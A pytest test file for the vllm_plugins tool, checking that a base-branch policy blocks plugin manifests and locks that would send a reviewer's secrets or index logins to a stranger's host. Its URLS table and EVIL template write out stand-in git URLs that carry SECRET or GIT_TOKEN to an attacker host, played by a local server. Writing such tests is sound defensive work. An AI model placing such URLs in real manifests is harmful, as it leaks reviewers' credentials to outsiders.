"""A change of plugins.yaml or plugins.lock that sends a variable of the reviewer to a host of its author."""

from __future__ import annotations

import base64
import json
import subprocess
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml

from tests.kit import loopback, projects
from tests.kit.git_server import serve_http
from tests.kit.repositories import Repository, git_environment

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.kit.index import Index
    from tests.kit.place import Completed, Place

WORKFLOW = Path(__file__).parents[2] / "examples/github-actions/plugins.yml"
SECRET = "the-reviewers-secret"
LOGIN = {"VLLM_PLUGIN_INDEX_TEAM_USERNAME": "ada", "VLLM_PLUGIN_INDEX_TEAM_PASSWORD": SECRET}
VARIABLES = {"SECRET": SECRET, "GIT_TOKEN": SECRET, **LOGIN}
EVIL = "{name: evil, source: git, url: '%s', ref: main}"
# URLs of a git plugin in the change, and why each is refused.
URLS = {
    "http://${SECRET}@EVIL/evil.git": "plugin 'evil' sends SECRET to http://EVIL",
    "http://${GIT_TOKEN}@EVIL/tiny": "plugin 'evil' sends GIT_TOKEN to http://EVIL",
    "http://ada:${GIT_TOKEN}@EVIL/tiny": "plugin 'evil' sends GIT_TOKEN to http://EVIL",
    "http://${GIT_TOKEN}@KNOWN@EVIL/tiny": "plugin 'evil' sends GIT_TOKEN to http://EVIL",
    "http://EVIL/${SECRET}": "plugin 'evil' has SECRET in its url, in another part than the login",
    "http://${GIT_TOKEN}@EVIL/KNOWN/${GIT_TOKEN}": "plugin 'evil' has GIT_TOKEN in its url, in another part than the login",
    "http://${GIT_TOKEN}:${SECRET}@KNOWN/tiny": "plugin 'evil' sends SECRET to http://KNOWN",
    "https://${GIT_TOKEN}@KNOWN/tiny": "plugin 'evil' sends GIT_TOKEN to https://KNOWN",
    "http://${SECRET}/tiny": "plugin 'evil' has SECRET in its url, in another part than the login",
    "${SECRET}/tiny": "plugin 'evil' has SECRET in its url, in another part than the login",
    "ssh://${SECRET}@EVIL/tiny": "plugin 'evil' has SECRET in its url, in another part than the login",
    "file:///${SECRET}": "plugin 'evil' has SECRET in its url, in another part than the login",
}  # fmt: skip
# Every command that reads the manifest or the lock of a change, and may use a login.
COMMANDS = (
    "lock --check",
    "lock --check --rebuild",
    "lock",
    "lock --upgrade",
    "upgrade --dry-run",
    "audit",
    "status",
    "doctor",
    "outdated",
    "outlook --to vllm==9.9.9",
    "bundle",
    "sync",
    "add tiny==1.0 --name other",
    "export --format pylock",
    "tree",
)


@dataclass(kw_only=True)
class Host:
    """A server that wants a login, and keeps all that it is sent."""

    address: str
    heard: list[str] = field(default_factory=list)

    @property
    def knows(self) -> bool:
        """Whether it was sent the secret, in a path, a header, or a login."""
        texts = [*self.heard]
        for line in self.heard:
            for word in line.split():
                try:
                    texts.append(base64.b64decode(word, validate=True).decode("utf-8", "replace"))
                except ValueError:
                    continue
        return any(SECRET in text for text in texts)


@contextmanager
def listening() -> Iterator[Host]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host.heard.append(f"{self.path} {self.headers}")
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="evil"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_HEAD = do_GET  # noqa: N815 - the names are http.server's

        def log_message(self, *args: object) -> None:
            pass

    with loopback.serving(Handler) as address:
        host = Host(address=address)
        yield host


@dataclass(kw_only=True)
class Review:
    """A locked repository, the manifest of its base branch, and a host of somebody who proposes a change."""

    place: Place
    known: str
    evil: Host

    @property
    def base(self) -> Path:
        return self.place.root / "base.yaml"

    def text(self, *plugins: str, indexes: str = "", policy: str = "", index: str = "") -> str:
        """A manifest: what is on the base branch, and more."""
        first = [
            f"{{name: tiny, source: git, url: 'http://${{GIT_TOKEN}}@{self.known}/tiny', ref: main}}",
            f"{{name: mine, source: pypi, package: mine{index}}}",
        ]
        lines = "".join(f"\n  - {line}" for line in (*first, *plugins))
        return f"plugins:{lines}\n{indexes}\n{policy}\n"

    def filled(self, text: str) -> str:
        return text.replace("EVIL", self.evil.address).replace("KNOWN", self.known)

    def run(self, words: str, **env: str) -> Completed:
        done = self.place.run(*words.split(), env={**VARIABLES, **env}, check=False)
        assert SECRET not in done.stdout + done.stderr
        return done


@pytest.fixture
def review(place: Place, index: Index) -> Iterator[Review]:
    root = place.root / "served"
    repository = Repository.init(projects.project(root / "tiny", name="tiny"))
    repository.commit()
    index.wheel("mine", "1.0")
    with serve_http(root) as address, listening() as evil:
        review = Review(place=place, known=address.removeprefix("http://"), evil=evil)
        text = review.text()
        review.base.write_text(text, encoding="utf-8")
        place.write(text)
        place.run("lock", env=VARIABLES)
        yield review


def test_without_a_policy_a_change_decides_who_gets_a_variable(review: Review) -> None:
    """As whoever writes plugins.yaml is trusted with it. Also: the server of these tests hears what it is sent."""
    review.place.write(review.text(review.filled(EVIL % "http://${SECRET}@EVIL/evil.git")))
    review.run("lock --check")
    assert review.evil.knows


@pytest.mark.parametrize("words", ["lock --check", "audit --offline"])
def test_a_variable_goes_only_where_the_policy_sends_it(review: Review, words: str) -> None:
    for url, why in URLS.items():
        review.place.write(review.text(review.filled(EVIL % url)))
        done = review.run(f"{words} --policy {review.base}")
        assert done.returncode == 2, done
        assert "[login-refused]" in done.stderr
        assert review.filled(why) in done.stderr
        assert not review.evil.heard


def test_no_command_sends_a_login_elsewhere_with_the_variable_of_the_policy(review: Review) -> None:
    evil = review.filled(EVIL % "http://${SECRET}@EVIL/evil.git")
    indexes = review.filled("indexes: {team: {url: 'http://EVIL/simple'}}")
    review.place.write(review.text(evil, indexes=indexes, index=", index: team"))
    before = review.place.lock.read_bytes()
    for words in COMMANDS:
        done = review.run(words, VLLM_PLUGIN_POLICY=str(review.base))
        assert not review.evil.heard, done
        assert review.place.lock.read_bytes() == before
        if words not in ("export --format pylock", "tree"):  # these read the lock alone
            assert "login-refused" in done.stderr + done.stdout, done
            assert done.returncode != 0


@pytest.mark.parametrize("words", ["lock --check", "audit"])
def test_the_login_of_an_index_goes_only_where_the_policy_has_that_index(review: Review, words: str) -> None:
    indexes = review.filled("indexes: {team: {url: 'http://EVIL/simple'}}")
    review.place.write(review.text(indexes=indexes, index=", index: team"))
    review.run("lock --check")
    assert review.evil.knows
    review.evil.heard.clear()
    done = review.run(f"{words} --policy {review.base}")
    assert (done.returncode, "[login-refused]" in done.stderr) == (2, True), done
    assert f"index 'team' sends {' and '.join(LOGIN)} to http://{review.evil.address}" in done.stderr
    assert not review.evil.heard
    review.base.write_text(review.text(indexes=indexes.replace("simple", "other")), encoding="utf-8")  # as it says
    assert "[login-refused]" not in review.run(f"{words} --policy {review.base}").stderr
    assert review.evil.knows


def test_the_login_of_an_index_in_a_lock_alone_goes_only_where_the_policy_has_it(
    place: Place, index: Index, review: Review
) -> None:
    """With a lock and no manifest, the lock names the index."""
    name, url = "team", index.url.replace("127.0.0.1", "localhost")
    text = review.text(indexes=f"indexes: {{{name}: {{url: '{url}'}}}}", index=f", index: {name}")
    place.write(text)
    place.run("lock", env={**VARIABLES, **dict.fromkeys(LOGIN, "")})
    place.manifest.unlink()
    alone = {"VLLM_PLUGIN_CONFIG": "", "VLLM_PLUGIN_LOCK": str(place.lock), "VLLM_PLUGIN_POLICY": str(review.base)}
    for words in ("bundle", "sync"):
        done = review.run(words, **alone)
        assert "[login-refused]" in done.stderr, done
        assert f"index 'team' sends {' and '.join(LOGIN)} to http://localhost:" in done.stderr
    review.base.write_text(text, encoding="utf-8")
    assert review.run("sync", **alone).returncode == 0


def test_what_the_policy_sends_is_sent(review: Review) -> None:
    """The same login may be used by other plugins of its host, and a policy may name hosts that no plugin has yet."""
    policy = f"--policy {review.base}"
    done = review.run(f"lock --check {policy}")
    assert done.returncode == 0, done
    # Another repository at that host, and the same one with another form of the login.
    for url in ("http://${GIT_TOKEN}@KNOWN/gone", "http://ada:${GIT_TOKEN}@KNOWN/tiny"):
        review.place.write(review.text(review.filled(EVIL % url)))
        done = review.run(f"lock --check {policy}")
        assert (done.returncode, "[login-refused]" in done.stderr) != (2, True), done
    change = review.text(review.filled(EVIL % "http://${SECRET}@EVIL/evil.git"))
    review.place.write(change)
    assert "[login-refused]" in review.run(f"lock --check {policy}").stderr
    # As the error says.
    allowed = f"policy: {{variables: {{SECRET: ['http://{review.evil.address}']}}}}"
    review.base.write_text(review.text(policy=allowed), encoding="utf-8")
    assert "[login-refused]" not in review.run(f"lock --check {policy}").stderr
    assert review.evil.knows
    # A URL with a variable in another part, as the error says.
    change = review.text(review.filled(EVIL % "http://KNOWN/${SECRET}"))
    review.place.write(change)
    assert "[login-refused]" in review.run(f"lock --check {policy}").stderr
    review.base.write_text(change, encoding="utf-8")
    assert "[login-refused]" not in review.run(f"lock --check {policy}").stderr


def test_the_policy_of_a_change_has_no_effect(review: Review) -> None:
    evil = review.filled(EVIL % "http://${SECRET}@EVIL/evil.git")
    allowed = f"policy: {{variables: {{SECRET: ['http://{review.evil.address}']}}}}"
    review.place.write(review.text(evil, policy=allowed))
    for words in ("lock --check", "audit"):
        assert review.run(f"{words} --policy {review.base}").returncode == 2
    assert not review.evil.heard


@pytest.mark.parametrize("words", ["lock", "lock --check", "audit --offline"])
def test_the_policy_is_read_once(words: str, review: Review) -> None:
    """A second reading could find another file than the one that was checked against. A pipe has nothing for it."""
    review.run("lock")
    command = 'exec "$0" -m vllm_plugins --config "$1" $2 --policy <(cat "$3")'
    argv = ["bash", "-c", command, review.place.interpreter, str(review.place.manifest), words, str(review.base)]
    done = subprocess.run(
        argv, env={**review.place.environment, **VARIABLES}, capture_output=True, encoding="utf-8", check=False
    )
    assert "the file is empty" not in done.stderr + done.stdout
    assert done.returncode == review.run(f"{words} --policy {review.base}").returncode


def test_a_policy_that_can_not_be_read_sends_nothing(review: Review) -> None:
    review.place.write(review.text(review.filled(EVIL % "http://${SECRET}@EVIL/evil.git")))
    for text in (None, "plugins: [", "plugins: []\npolicy: {variables: {SECRET: ['http://EVIL/path']}}"):
        review.base.unlink(missing_ok=True)
        if text is not None:
            review.base.write_text(review.filled(text), encoding="utf-8")
        for words in ("lock --check", "audit", "status"):
            done = review.run(words, VLLM_PLUGIN_POLICY=str(review.base))
            assert done.returncode in (1, 2), done
            assert str(review.base) in done.stderr + done.stdout
    assert not review.evil.heard


def test_a_check_takes_the_cooldown_of_the_policy(review: Review, index: Index) -> None:
    """A change that lowers ``min-age-days`` locks no younger release than the policy admits."""
    review.base.write_text(
        review.text(policy="policy: {min-age-days: 9999, min-age-exempt: [tiny]}"), encoding="utf-8"
    )
    index.wheel("new", "1.0")
    review.place.write(review.text("{name: new, source: pypi, package: new}", policy="policy: {min-age-days: 0}"))
    done = review.run(f"lock --policy {review.base}")
    assert done.returncode == 6, done
    assert "new 1.0" in done.stderr
    assert json.loads(review.run("lock --json").stdout)["packages"]["new"] == "1.0"


def test_the_workflow_of_a_review_sends_no_variable_of_its_job(review: Review) -> None:
    """The shell steps of the job that reviews a change, as GitHub's runner runs them, with secrets in the environment."""
    place = review.place
    place.run("base", "-o", place.config / "base.json")
    place.run("lock", "--base", place.config / "base.json", env=VARIABLES)
    repository = Repository.init(place.config)
    repository.commit("locked")
    place.write(review.text(review.filled(EVIL % "http://${SECRET}@EVIL/evil.git")))
    # A link in the change leads the file of the base branch nowhere else.
    (place.config / "base.yaml").symlink_to("plugins.yaml")
    repository.commit("a change")
    repository.git("branch", "change")
    repository.git("reset", "--hard", "--quiet", "HEAD~1")
    clone = place.root / "runner" / "clone"
    subprocess.run(["git", "clone", "--quiet", repository.path, clone], env=git_environment(), check=True)
    subprocess.run(["git", "checkout", "--quiet", "change"], cwd=clone, env=git_environment(), check=True)
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    for job in workflow["jobs"].values():
        scripts = [part["run"] for part in job["steps"] if "run" in part]
        chosen = [text for text in scripts if text.startswith(("git ", "vllm-plugins lock", "vllm-plugins audit"))]
        said = [_step(text, clone, place, workflow["env"]) for text in chosen]
        assert said[0] == (0, ""), said
        assert said[1:], said
        assert all(code == 2 and "[login-refused]" in text for code, text in said[1:]), said
    assert not review.evil.heard
    # The control: without that line of the workflow, the variable is sent.
    _step("vllm-plugins lock --config plugins.yaml --check --base base.json", clone, place, {})
    assert review.evil.knows


def _step(script: str, clone: Path, place: Place, variables: dict[str, str]) -> tuple[int, str]:
    """The exit status and the errors of a step."""
    env = {**place.environment, **git_environment(), **VARIABLES, "BASE_REF": "main", **variables}
    env |= {"HOME": str(place.home), "https_proxy": "http://127.0.0.1:9"}  # no advisory service is asked
    env["PATH"] = f"{Path(place.interpreter).parent}:{env['PATH']}"
    del env["VLLM_PLUGIN_CONFIG"]
    words = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script]
    done = subprocess.run(words, cwd=clone, env=env, capture_output=True, text=True, check=False)
    return done.returncode, "\n".join(line for line in done.stderr.splitlines() if "vllm-plugins" in line)
